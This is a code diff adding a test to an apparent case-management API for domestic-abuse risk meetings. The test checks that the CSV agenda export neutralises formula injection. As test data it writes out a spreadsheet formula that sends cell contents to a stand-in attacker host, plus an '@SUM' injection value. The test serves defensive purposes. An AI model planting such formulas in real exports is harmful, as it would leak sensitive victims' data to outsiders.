@@ -70,3 +70,33 @@ def test_the_api_reference_loads_its_assets_from_here(api):
         assert asset in page.text
         assert "cdn" not in page.text.lower()
         assert api.client.get(asset).status_code == 200
+
+
+def test_a_victim_named_like_a_formula_is_text_in_the_agenda_csv(api):
+    import csv
+    import io
+
+    from services.kernel.spreadsheet import FORMULA_START
+
+    coordinator = api.headers("marac-coord", "coordinator")
+    meeting = api.client.post(
+        "/api/marac/meetings",
+        json={"marac_area": "oxford", "meeting_date": "2099-01-08"},
+        headers=coordinator,
+    ).json()
+    name = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
+    body = referral(victim=name, perpetrator="@SUM(1+1)")
+    assert (
+        api.client.post(
+            "/api/marac/referrals", json=body, headers=api.headers("idva-oxon", "referrer")
+        ).status_code
+        == 201
+    )
+    exported = api.client.get(
+        f"/api/marac/meetings/{meeting['meeting_id']}/agenda?format=csv&draft=true",
+        headers=coordinator,
+    )
+    assert exported.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
+    assert "'" + name in cells
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
